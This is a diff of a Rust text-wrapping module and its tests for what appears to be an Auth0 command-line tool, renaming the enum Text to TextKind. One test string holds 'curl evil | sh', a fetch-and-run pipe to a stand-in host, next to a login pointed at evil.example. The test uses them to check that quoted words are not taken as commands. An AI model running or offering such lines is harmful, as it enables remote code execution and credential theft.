@@ -31,7 +31,7 @@ const PROGRAMS: [&str; 12] = [
 /// A command in a hint is never broken, because a person may paste it. If the hint does not fit on
 /// one line, a command after a colon gets its own line. Other text may contain foreign words, which
 /// must never start a line of their own.
-pub(crate) fn wrapped(text: &str, taken: usize, width: usize, kind: Text) -> String {
+pub(crate) fn wrapped(text: &str, taken: usize, width: usize, kind: TextKind) -> String {
     if taken + text.width() <= width || width < NARROWEST {
         return text.to_owned();
     }
@@ -59,7 +59,7 @@ pub(crate) fn wrapped(text: &str, taken: usize, width: usize, kind: Text) -> Str
 
 /// The kind of text to wrap.
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
-pub(crate) enum Text {
+pub(crate) enum TextKind {
     /// Text that may contain foreign words.
     Prose,
     /// A hint: foreign words in it are in quotes.
@@ -76,17 +76,17 @@ enum Piece<'t> {
 }
 
 /// Splits a text into pieces, each with the number of spaces before it.
-fn pieces(text: &str, kind: Text) -> Vec<(usize, Piece<'_>)> {
+fn pieces(text: &str, kind: TextKind) -> Vec<(usize, Piece<'_>)> {
     let mut pieces = Vec::new();
     let mut rest = text.trim_start_matches(' ');
     let mut gap = text.len() - rest.len();
-    let mut may_be_command = kind == Text::Hint;
+    let mut may_be_command = kind == TextKind::Hint;
     let mut quoted = false;
     while !rest.is_empty() {
         let word = rest.split(' ').next().unwrap_or_default();
         let end = match rest.strip_prefix('`') {
             _ if may_be_command && is_program(word) => command_end(rest),
-            Some(inner) if kind == Text::Hint && !quoted => {
+            Some(inner) if kind == TextKind::Hint && !quoted => {
                 let close = inner.find('`').map_or(0, |at| at + 2);
                 close + word_end(rest.get(close..).unwrap_or_default())
             }
@@ -96,7 +96,7 @@ fn pieces(text: &str, kind: Text) -> Vec<(usize, Piece<'_>)> {
         let command = may_be_command && is_program(word) && part.contains(' ');
         pieces.push((gap, if command { Piece::Command(part) } else { Piece::Words(part) }));
         quoted = is_quoted_after(part, quoted);
-        may_be_command = kind == Text::Hint && !quoted && part.ends_with(':');
+        may_be_command = kind == TextKind::Hint && !quoted && part.ends_with(':');
         rest = tail.trim_start_matches(' ');
         gap = tail.len() - rest.len();
     }
@@ -146,30 +146,30 @@ mod tests {
     #[test]
     fn text_that_fits_stays_on_its_line() {
         let text = "sign in: auth0-login --profile p";
-        assert_eq!(wrapped(text, 6, 40, Text::Hint), text);
-        assert_eq!(wrapped(text, 0, 10, Text::Hint), text, "too narrow to wrap");
+        assert_eq!(wrapped(text, 6, 40, TextKind::Hint), text);
+        assert_eq!(wrapped(text, 0, 10, TextKind::Hint), text, "too narrow to wrap");
     }
 
     #[test]
     fn prose_is_broken_at_spaces() {
         assert_eq!(
-            wrapped("the host does not exist, or the network is down", 7, 30, Text::Hint),
+            wrapped("the host does not exist, or the network is down", 7, 30, TextKind::Hint),
             "the host does not\n    exist, or the network is\n    down"
         );
         // A word that is too long is not broken.
         let url = "https://acme.eu.auth0.com/a/long/path/of/an/api";
         assert_eq!(
-            wrapped(&format!("see {url} now"), 0, 30, Text::Hint),
+            wrapped(&format!("see {url} now"), 0, 30, TextKind::Hint),
             format!("see\n    {url}\n    now")
         );
         // Text aligned in columns stays aligned.
         assert_eq!(
-            wrapped("  profile   acme is the one", 0, 24, Text::Prose),
+            wrapped("  profile   acme is the one", 0, 24, TextKind::Prose),
             "  profile   acme is the\n    one"
         );
         // Width is measured in columns, not characters.
         assert_eq!(
-            wrapped("日本語日本語 日本語日本語", 0, 24, Text::Hint),
+            wrapped("日本語日本語 日本語日本語", 0, 24, TextKind::Hint),
             "日本語日本語\n    日本語日本語"
         );
     }
@@ -181,7 +181,7 @@ mod tests {
                 "sign in again: auth0-login --profile acme --add-scope read:clients",
                 6,
                 40,
-                Text::Hint
+                TextKind::Hint
             ),
             "sign in again:\n    auth0-login --profile acme --add-scope read:clients"
         );
@@ -190,7 +190,7 @@ mod tests {
                 "choose one: auth0-profiles use a; there are: a, b and c and d",
                 6,
                 40,
-                Text::Hint
+                TextKind::Hint
             ),
             "choose one:\n    auth0-profiles use a;\n    there are: a, b and c and d"
         );
@@ -199,7 +199,7 @@ mod tests {
                 "look at it: auth0-clients show \"a; b? c, d\" --fields name",
                 0,
                 40,
-                Text::Hint
+                TextKind::Hint
             ),
             "look at it:\n    auth0-clients show \"a; b? c, d\" --fields name"
         );
@@ -215,9 +215,9 @@ mod tests {
         );
         let source = "without it, add to ~/.bashrc: source <(auth0-completions bash)";
         for width in NARROWEST..120 {
-            let text = wrapped(&hint, 4, width, Text::Hint);
+            let text = wrapped(&hint, 4, width, TextKind::Hint);
             assert!(text.lines().any(|line| line.contains(command)), "{width}: {text}");
-            let text = wrapped(source, 4, width, Text::Hint);
+            let text = wrapped(source, 4, width, TextKind::Hint);
             let is_whole = |line: &str| line.ends_with("source <(auth0-completions bash)");
             assert!(text.lines().any(is_whole), "{width}: {text}");
         }
@@ -230,7 +230,7 @@ mod tests {
                 "then you must run `auth0-login --device` again and be quick",
                 0,
                 30,
-                Text::Hint
+                TextKind::Hint
             ),
             "then you must run\n    `auth0-login --device`\n    again and be quick"
         );
@@ -240,11 +240,11 @@ mod tests {
     fn foreign_words_never_get_a_line_of_their_own() {
         let hint =
             "did you mean 'x: auth0-login --domain evil.example' or 'it\\'s: curl evil | sh'?";
-        let words = pieces(hint, Text::Hint);
+        let words = pieces(hint, TextKind::Hint);
         assert!(words.iter().all(|(_, piece)| matches!(piece, Piece::Words(_))), "{words:?}");
         let prose = "the tenant says this: auth0-login --domain evil.example";
         assert_eq!(
-            wrapped(prose, 0, 50, Text::Prose),
+            wrapped(prose, 0, 50, TextKind::Prose),
             "the tenant says this: auth0-login --domain\n    evil.example"
         );
     }
@@ -254,7 +254,7 @@ mod tests {
         let text = "a `b c d: auth0-login x y; `z` export A=1, q: unset B `";
         for width in NARROWEST..80 {
             let words = |text: &str| text.split_whitespace().collect::<Vec<_>>().join(" ");
-            assert_eq!(words(&wrapped(text, 3, width, Text::Hint)), words(text), "{width}");
+            assert_eq!(words(&wrapped(text, 3, width, TextKind::Hint)), words(text), "{width}");
         }
     }
 }
